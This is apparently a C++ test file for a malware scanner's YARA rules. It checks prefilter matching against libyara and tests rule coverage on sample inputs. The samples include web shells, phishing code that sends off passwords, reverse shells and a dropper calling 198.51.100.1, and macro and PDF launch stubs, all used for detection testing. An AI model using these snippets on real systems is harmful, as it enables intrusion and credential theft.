// SPDX-License-Identifier: Apache-2.0
// YARA rules behind the prefilter: what matches is what libyara alone finds, and our own rules keep their promises.
#include <random>

#include <gtest/gtest.h>

#include "base/text.h"
#include "sweep/host/rules/need.h"
#include "sweep/host/rules/pattern.h"
#include "sweep/host/rules/rule_set.h"

namespace abate::sweep {
namespace {

std::string names_of(const std::vector<RuleHit>& hits) {
  std::string names;
  for (const RuleHit& hit : hits) names += hit.rule + " ";
  return names;
}

constexpr std::string_view kOddRules = R"(
import "hash"
rule plain { strings: $a = "needle-one" condition: $a }
rule nocase_ { strings: $a = "NeedleTwo" nocase condition: $a }
rule wide_ { strings: $a = "needle3" wide condition: $a }
rule both { strings: $a = "needle4" wide ascii nocase condition: $a }
rule full { strings: $a = "needle5" fullword condition: $a }
rule xored { strings: $a = "needle six" xor condition: $a }
rule xored_some { strings: $a = "needle seven" xor(1-20) condition: $a }
rule b64 { strings: $a = "needle eight is longer" base64 condition: $a }
rule negated { strings: $a = "needle9" condition: not $a and filesize < 300 }
rule size_only { condition: filesize > 900 and filesize < 950 }
rule none_of { strings: $a = "alpha" $b = "beta" condition: none of them and filesize > 1900 }
rule any_of { strings: $a = "gamma1" $b = "delta1" condition: any of them }
rule two_of { strings: $a = "gamma2" $b = "delta2" $c = "epsilon2" condition: 2 of them }
rule twice_listed { strings: $a = "gamma3" $b = "delta3" condition: 2 of ($a, $a*, $b) }
rule all_of { strings: $a = "gamma4" $b = "delta4" condition: all of ($*) }
rule for_any { strings: $a = "zeta1" $b = "zeta2" condition: for any of them : ( $ in (0..400) ) }
rule for_all { strings: $a = "zeta3" $b = "zeta4" condition: for all of ($a, $b) : ( # > 0 ) }
rule for_not { strings: $a = "zeta5" $b = "zeta6" condition: for any of them : ( not $ ) and filesize < 100 }
rule counted { strings: $a = "eta" condition: #a >= 3 }
rule counted_none { strings: $a = "theta" condition: #a == 0 and filesize < 60 }
rule counted_sum { strings: $a = "iota1" $b = "iota2" condition: #a + #b > 2 }
rule regex { strings: $a = /kap+a\s*\(\s*\$_(GET|POST)\[/ condition: $a }
rule regex_i { strings: $a = /lambda[ \t]{0,3}=\s"[^"]{2,100}"/i condition: $a }
rule regex_word { strings: $a = /\bmu\d{2,}nu\b/ condition: $a }
rule regex_low { strings: $a = /xi{,3}omicron/ condition: $a }
rule regex_anchor { strings: $a = /^#!.{0,40}pi$/ condition: $a }
rule regex_wide { strings: $a = /rho[0-9]sigma/ wide condition: $a }
rule regex_classes { strings: $a = /tau[\w-]\S[^\d]\x41[]-]/ condition: $a }
rule hex { strings: $a = { 01 02 ?? 0? ?4 [2-5] ( AA | BB CC ) } condition: $a }
rule hex_jump { strings: $a = { 75 70 73 [0-300] 69 6C 6F } condition: $a }
rule placed { strings: $a = "phi" condition: $a at 0 }
rule or_size { strings: $a = "chi-chi" condition: $a or filesize == 77 }
rule and_or { strings: $a = "psi-1" $b = "psi-2" $c = "psi-3" condition: ($a or $b) and $c and filesize < 5000 }
rule hashed { condition: hash.md5(0, 3) == "900150983cd24fb0d6963f7d28e17f72" }
rule byte_at { strings: $a = "omega" condition: $a or uint8(0) == 0x7e }
rule anonymous { strings: $ = "anon-one" $ = "anon-two" condition: any of them }
rule hidden { strings: $open = "<?" private $a = "secret-mark" condition: $open in (0..20) and $a }
)";

constexpr std::string_view kTogether = R"(
private rule base_rule { strings: $a = "stone" condition: $a }
rule on_top { strings: $a = "tower" condition: base_rule and $a }
rule without { condition: not base_rule and filesize < 40 }
)";
constexpr std::string_view kGlobal = R"(
global rule small { condition: filesize < 1500 }
rule held { strings: $a = "gate" condition: $a }
)";

// Files of random words, pieces of what the rules look for among them.
class Forest {
 public:
  std::string file() {
    std::string text;
    const std::size_t words = below(4) == 0 ? below(6) : below(300);
    if (below(12) == 0) text = pick({"~", "phi", "abc", "#!/bin/pi", "<?php "});
    for (std::size_t i = 0; i < words; ++i) {
      if (below(25) == 0)
        text += piece();
      else
        for (std::size_t n = below(9); n > 0; --n) text += static_cast<char>('a' + below(26));
      text += below(10) == 0 ? "\n" : " ";
    }
    return text;
  }
  std::size_t below(std::size_t bound) { return random_() % bound; }

 private:
  std::string pick(std::initializer_list<std::string_view> of) { return std::string{*(of.begin() + below(of.size()))}; }
  static std::string wide(std::string_view text) {
    std::string all;
    for (const char c : text) all += std::string{c, '\0'};
    return all;
  }
  static std::string xored(std::string text, char key) {
    for (char& c : text) c = static_cast<char>(c ^ key);
    return text;
  }
  std::string piece() {
    using namespace std::string_literals;
    switch (below(12)) {
      case 0:
        return pick({"needle-one", "NEEDLETWO", "needletwo", "needle4", "NEEDLE4", "needle5", "xneedle5x", "needle9"});
      case 1: return wide(pick({"needle3", "Needle4", "rho1sigma"}));
      case 2:
        return xored("needle six", static_cast<char>(below(256))) + xored("needle seven", static_cast<char>(below(30)));
      case 3: return pick({"bmVlZGxlIGVpZ2h0IGlzIGxvbmdlcg==", "YW5lZWRsZSBlaWdodCBpcyBsb25nZXI="});
      case 4:
        return pick(
            {"gamma1", "delta1", "gamma2", "delta2", "epsilon2", "gamma3", "gamma3", "delta3", "gamma4", "delta4"});
      case 5:
        return pick({"zeta1", "zeta2", "zeta3", "zeta4", "zeta5", "zeta6", "eta eta", "theta", "iota1 iota2", "iota1"});
      case 6:
        return pick({"kapppa ( $_GET[", "kapa($_POST[", "kaa($_GET[", "LAMBDA = \"abcdef\"", "lambda=\t\"ab\"",
                     "mu12nu", "xmu12nu"});
      case 7: return pick({"xomicron", "xiiomicron", "xiiiiomicron", "taux.yA-", "tau-!zA]", "tauwzzA-"});
      case 8: return "\x01\x02\x77\x05\x14zz\xaa"s + (below(2) == 0 ? "\x01\x02z\x01\x04yyyy\xbb\xcc"s : ""s);
      case 9: return "ups" + std::string(below(400), 'q') + "ilo";
      case 10:
        return pick({"phi", "chi-chi", "psi-1", "psi-2", "psi-3", "omega", "anon-one", "anon-two", "secret-mark"});
      default: return pick({"stone", "tower", "gate", "alpha", "beta"});
    }
  }
  std::mt19937 random_{20260501};
};

TEST(Rules, are_first_looked_for_by_the_rarest_bytes_that_stand_in_every_match) {
  const auto of_regex = [](std::string_view body) { return regex_pattern(body, false).value().literal; };
  EXPECT_EQ(of_regex(R"(system\s*\(\s*base64_decode)"), "base64_d");
  EXPECT_EQ(of_regex("aa(bb)?ccc"), "ccc");
  EXPECT_EQ(of_regex("(abcd|wxyz)[0-9]ef"), "") << "either, and too short";
  EXPECT_EQ(of_regex(R"(^ab\bc\x66$)"), "abcf");
  EXPECT_EQ(of_regex("(pq){2}a"), "") << "what is repeated is not joined";
  EXPECT_EQ(regex_pattern("ABCD.EF", true).value().literal, "abcd");
  EXPECT_EQ(hex_pattern("6162??636465[2]66").value().literal, "cde");
  EXPECT_EQ(text_pattern("a text that ends rarely: {[%", false, false).literal, "ely: {[%");
  EXPECT_EQ(text_pattern("ab", false, true).literal, std::string_view("a\0b\0", 4));
}

TEST(Rules, know_how_wide_a_match_can_be_blanks_left_out) {
  const auto of_regex = [](std::string_view body) { return regex_pattern(body, false).value().width; };
  EXPECT_EQ(of_regex(R"(eval\s*\(\s*\$_POST)"), 11U);
  EXPECT_EQ(of_regex("ab{2,40}(cd|efg)[ \t]+.{0,300}"), 1U + 40 + 3 + 300);
  EXPECT_EQ(of_regex("ab.*"), kUnbounded);
  EXPECT_EQ(of_regex("ab[^;]+"), kUnbounded);
  EXPECT_EQ(of_regex("abc(d e)*"), kUnbounded);
  EXPECT_EQ(hex_pattern("6162[2-5]63").value().width, 8U);
  EXPECT_EQ(hex_pattern("6162[-]63").value().width, kUnbounded);
}

TEST(Rules, are_found_however_far_their_literal_lies_from_the_rest) {
  Notes notes;
  const RuleSet rules{{{"far.yar", R"(
rule blanks { strings: $a = /eval\s*\(\s*base64_decode\s*\(/ condition: $a }
rule bounded { strings: $a = /begins[^;]{0,200}curl_exec_now/ condition: $a }
rule two { strings: $a = "first-needle" $b = "second-one" condition: all of them }
)"}},
                      notes};
  const auto found = [&](const std::string& text) {
    const RuleInput input{.path = "/x.php", .bytes = text, .size = text.size(), .md5 = {}};
    EXPECT_EQ(names_of(rules.scan(input)), names_of(rules.scan_without_prefilter(input)));
    return names_of(rules.scan(input));
  };
  for (const std::size_t blanks : {0U, 1U, 3000U, 40'000U}) {
    const std::string far(blanks, blanks % 2 == 0 ? '\n' : ' ');
    EXPECT_EQ(found(fmt::format("x eval{}({}base64_decode{}(", far, far, far)), blanks < 1000 ? "blanks " : "")
        << "libyara itself gives up";
    EXPECT_EQ(found(fmt::format("x evil{}({}base64_decode{}(", far, far, far)), "");
  }
  EXPECT_EQ(found("begins" + std::string(200, 'x') + "curl_exec_now"), "bounded ");
  EXPECT_EQ(found("begins" + std::string(201, 'x') + "curl_exec_now"), "");
  std::string often;
  for (int i = 0; i < 100; ++i) often += "base64_decode ";
  EXPECT_EQ(found(often), "");
  EXPECT_EQ(found(often + "eval (base64_decode("), "blanks ");
  EXPECT_EQ(found("second-one" + std::string(100'000, ' ') + std::string(100'000, 'x') + "first-needle"), "two ");
}

TEST(Rules, behind_the_prefilter_match_what_libyara_alone_matches) {
  Notes notes;
  const RuleSet rules{{{"odd.yar", std::string{kOddRules}},
                       {"together.yar", std::string{kTogether}},
                       {"global.yar", std::string{kGlobal}}},
                      notes};
  ASSERT_TRUE(notes.all().empty()) << notes.all().front().why;
  EXPECT_GT(rules.counts().guarded, 22U);
  EXPECT_GT(rules.counts().always_run, 10U);
  Forest forest;
  std::map<std::string, int> seen;
  for (int i = 0; i < 6000; ++i) {
    const std::string bytes = forest.file();
    const RuleInput input{.path = "/x", .bytes = bytes, .size = bytes.size(), .md5 = {}};
    const std::vector<RuleHit> alone = rules.scan_without_prefilter(input);
    ASSERT_EQ(names_of(rules.scan(input)), names_of(alone)) << i << ": " << bytes;
    for (const RuleHit& hit : alone) ++seen[hit.rule];
  }
  for (const std::string_view must :
       {"plain",        "both",    "wide_",    "xored",   "b64",       "negated", "none_of",   "two_of",
        "twice_listed", "all_of",  "for_any",  "for_all", "counted",   "regex",   "regex_i",   "regex_word",
        "regex_low",    "hex",     "hex_jump", "placed",  "and_or",    "byte_at", "anonymous", "hidden",
        "on_top",       "without", "held",     "hashed",  "regex_wide"})
    EXPECT_GT(seen[std::string{must}], 0) << must;
}

TEST(Rules, that_can_match_without_their_strings_are_always_run) {
  Notes notes;
  const RuleSet rules{{{"odd.yar", std::string{kOddRules}}}, notes};
  const std::vector<std::string>& always = rules.always_run();
  for (const std::string_view name : {"negated", "size_only", "none_of", "for_not", "counted_none", "or_size",
                                      "byte_at", "xored", "b64", "regex_wide"})
    EXPECT_TRUE(std::ranges::find(always, name) != always.end()) << name;
  for (const std::string_view name : {"plain", "regex", "hex", "two_of", "and_or", "hidden"})
    EXPECT_TRUE(std::ranges::find(always, name) == always.end()) << name;
}

TEST(Rules, that_libyara_refuses_are_left_out_and_said) {
  Notes notes;
  const RuleSet rules{{{"bad.yar", "rule x { condition: $nothing }"},
                       {"include.yar", "include \"/etc/passwd\"\nrule y { condition: true }"},
                       {"good.yar", "rule good { strings: $a = \"word\" condition: $a }"}},
                      notes};
  EXPECT_EQ(notes.all().size(), 2U);
  EXPECT_EQ(names_of(rules.scan({.path = "/x", .bytes = "a word", .size = 6, .md5 = {}})), "good ");
}

TEST(OwnRules, compile_have_their_meta_and_are_nearly_all_guarded) {
  Notes notes;
  const std::vector<RuleFile> files = own_rule_files();
  const RuleSet rules{files, notes};
  EXPECT_TRUE(notes.all().empty()) << notes.all().front().why;
  EXPECT_GE(rules.counts().guarded + rules.counts().always_run, 60U);
  EXPECT_TRUE(rules.always_run().empty()) << join(rules.always_run(), " ");
  for (const RuleFile& file : files) {
    const Result<YaraSource> source = parse_yara(file.text);
    ASSERT_TRUE(source) << file.name;
    for (const YaraRule& rule : source->rules)
      for (const std::string_view key :
           {"description = \"", "severity = \"", "role = \"", "area = \"", "false_positives = \""})
        EXPECT_NE(rule.source.find(key), std::string_view::npos) << rule.name << " " << key;
  }
}

struct Sample {
  std::string_view rule;
  std::string_view bytes;
};
constexpr Sample kSamples[] = {
    {"php_eval_request", "<?php\n@eval($_POST['x']);\n"},
    {"php_eval_request", "<?php if(1){eval(base64_decode($_REQUEST['x']));}"},
    {"php_assert_request", "<?php @assert($_REQUEST[\"c1\"]); ?>"},
    {"php_command_request", "<?php\n$o = shell_exec($_GET['cmd']);"},
    {"php_backtick_request", "<?php echo `$_GET[c]`;"},
    {"php_preg_replace_e_request", "<?php preg_replace(\"/.*/e\",\"\\x65\\x76\\x61\\x6C(1)\",\".\"); ?>"},
    {"php_callback_request", "<?php call_user_func($_GET['f'], $_GET['a']);"},
    {"php_function_name_request", "<?php $_GET['a']($_POST['b']);"},
    {"php_variable_function_request", "<?php $f=$_GET['f']; $f($_GET['x']);"},
    {"php_eval_decode_chain", "<?php eval(gzinflate(base64_decode('aaa')));"},
    {"php_picture_head", "GIF89a<?php phpinfo(); ?>"},
    {"php_remote_code", "<?php eval('?>'.file_get_contents('http://198.51.100.1/x.txt'));"},
    {"php_write_request", "<?php file_put_contents($_POST['n'], base64_decode($_POST['c']));"},
    {"php_code_in_body", "<?php eval(file_get_contents('php://input'));"},
    {"php_mass_mailer", "<?php $l = explode(\"\\n\", $_POST['emaillist']); foreach($l as $t) { mail($t, $s, $m); }"},
    {"kit_mails_passwords",
     "<?php $m .= \"Email : \".$_POST['email'].\"\\n\"; $m .= \"Password : \".$_POST['password'].\"\\n\"; $m .= "
     "$_SERVER['REMOTE_ADDR'];\n"
     " mail($to, 'x', $m); header('Location: https://bank.example/');"},
    {"kit_telegram_passwords",
     "<?php $t = 'User '.$_POST['user'].' '.$_POST['pass']; "
     "file_get_contents('https://api.telegram.org/bot'.$k.'/sendMessage?text='.$t);"},
    {"js_eval_char_codes", "eval(String.fromCharCode(1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22))"},
    {"js_spelled_script", "x=String.fromCharCode(118,97,114,32,115)"},
    {"php_hidden_redirect_by_engine",
     "<?php $r = $_SERVER['HTTP_REFERER'] ?? '';\nif (preg_match('~(google|bing|yahoo)\\.~', $r)) {\n"
     "  header('Location: ' . base64_decode('aHR0cA=='), true, 302);\n}\n"},
    {"htaccess_pictures_run", "AddType application/x-httpd-php .jpg\n"},
    {"defaced_title", "<html><head><title>Hacked By X</title>"},
    {"python_reverse_shell",
     "import "
     "socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)"
     "\npty.spawn('/bin/sh')\n"},
    {"shell_reverse_shell", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n"},
    {"shell_dropper",
     "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh"},
    {"miner_configuration",
     "{\"donate-level\": 1, \"url\": \"pool.example:3333\", \"user\": "
     "\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\"}"},
    {"elf_coin_miner",
     "\x7f"
     "ELF stratum+tcp://pool randomx cryptonight"},
    {"office_macro_runs", "\xd0\xcf\x11\xe0 Sub AutoOpen() CreateObject(\"WScript.Shell\")"},
    {"office_macro_stored_packed",
     "\xd0\xcf\x11\xe0 \x01\x08"
     "Attribut\x01"
     "e VB_Nam\x02 Sub Aut\x03oOpen()\x04 x = \"po\x05wershell\""},
    {"office_template_from_outside",
     "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.example/attachedTemplate\" "
     "Target=\"http://198.51.100.1/t.dotm\" TargetMode=\"External\"/></Relationships>"},
    {"pdf_runs_script", "%PDF-1.4 1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S /JavaScript /JS (app.alert)>>"},
    {"pdf_starts_program", "%PDF-1.4 <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>"},
    {"elf_upx_packed",
     "\x7f"
     "ELF....UPX!"},
    {"elf_iot_bot",
     "\x7f"
     "ELF /bin/busybox /dev/watchdog /dev/misc/watchdog TSource Engine Query"},
    {"asp_eval_request", "<%eval request(\"x\")%>"},
    {"jsp_command_request", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"},
};

TEST(OwnRules, find_what_they_are_made_for) {
  Notes notes;
  const RuleSet rules{own_rule_files(), notes};
  for (const Sample& sample : kSamples) {
    const RuleInput input{.path = "/x", .bytes = sample.bytes, .size = sample.bytes.size(), .md5 = {}};
    const std::string found = names_of(rules.scan(input));
    EXPECT_NE(found.find(sample.rule), std::string::npos) << sample.rule << " was not found in: " << sample.bytes;
    EXPECT_EQ(found, names_of(rules.scan_without_prefilter(input)));
  }
}

TEST(OwnRules, spare_those_who_only_talk_about_malware) {
  Notes notes;
  const RuleSet rules{own_rule_files(), notes};
  constexpr std::string_view kHonest[] = {
      "<?php\n// patterns\nreturn array(\n\t'a' => 'eval(base64_decode(',\n\t'b' => 'eval(gzinflate(base64_decode(',\n"
      "\t'c' => '/assert\\s*\\(\\s*\\$_(GET|POST)/i',\n\t'd' => 'c99shell',\n\t'e' => 'FilesMan',\n\t'f' => 'WSO "
      "2.5',\n"
      "\t'g' => '/(system|passthru|shell_exec)\\s*\\(\\s*\\$_(GET|POST)/i',\n);\n",
      "rule webshell { strings: $a = \"eval(base64_decode(\" $b = \"FilesMan\" $d = \"$_POST['cmd']\" condition: 2 of "
      "them }\n"
      "rule miner { strings: $a = \"stratum+tcp://\" $b = \"xmrig\" condition: all of them }\n",
      "Signatures from our scanner: <?php eval(base64_decode($_POST[\"x\"])); ?> and nc -e /bin/sh on purpose.\n",
      "INSERT INTO `wp_posts` VALUES (1,'look for <?php system($_GET[\"c\"]); ?> in uploads, curl "
      "http://x.example/a.sh | sh');",
      "<?php\n// counts who comes from where\nif (preg_match('/(google|bing|yahoo)/', $_SERVER['HTTP_REFERER'] ?? "
      "'')) {\n  header('Location: /welcome/');\n}\n$token = base64_decode($row['token']);\n",
      "<?php\n$expr = $argv[1];\necho eval('return ' . $expr . ';'), PHP_EOL;\n",
      "\xd0\xcf\x11\xe0 \x01\x08"
      "Attribut\x01"
      "e VB_Nam\x02 Sub Wor\x03kbook_Op\x04"
      "en() Range(\"A1\").Value = 1",
      "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.example/hyperlink\" "
      "Target=\"http://www.example/\" TargetMode=\"External\"/></Relationships>",
      "%PDF-1.4 1 0 obj <</OpenAction [3 0 R /Fit]>> (how to use /JavaScript)",
      "#!/bin/bash\neval \"$(cat ~/.config/backup.env)\"\ncurl -fsS https://checks.example/ping >/dev/null\n",
  };
  for (const std::string_view bytes : kHonest)
    for (const RuleHit& hit : rules.scan({.path = "/x", .bytes = bytes, .size = bytes.size(), .md5 = {}}))
      EXPECT_LT(hit.severity, Severity::suspicious) << hit.rule << " in: " << bytes;
}

TEST(OwnRules, survive_samples_cut_off_and_filtered_alike) {
  Notes notes;
  const RuleSet rules{own_rule_files(), notes};
  for (const Sample& sample : kSamples)
    for (std::size_t cut = 0; cut < sample.bytes.size(); cut += 3) {
      const RuleInput input{.path = "/x", .bytes = sample.bytes.substr(0, cut), .size = cut, .md5 = {}};
      ASSERT_EQ(names_of(rules.scan(input)), names_of(rules.scan_without_prefilter(input)));
    }
}

}  // namespace
}  // namespace abate::sweep
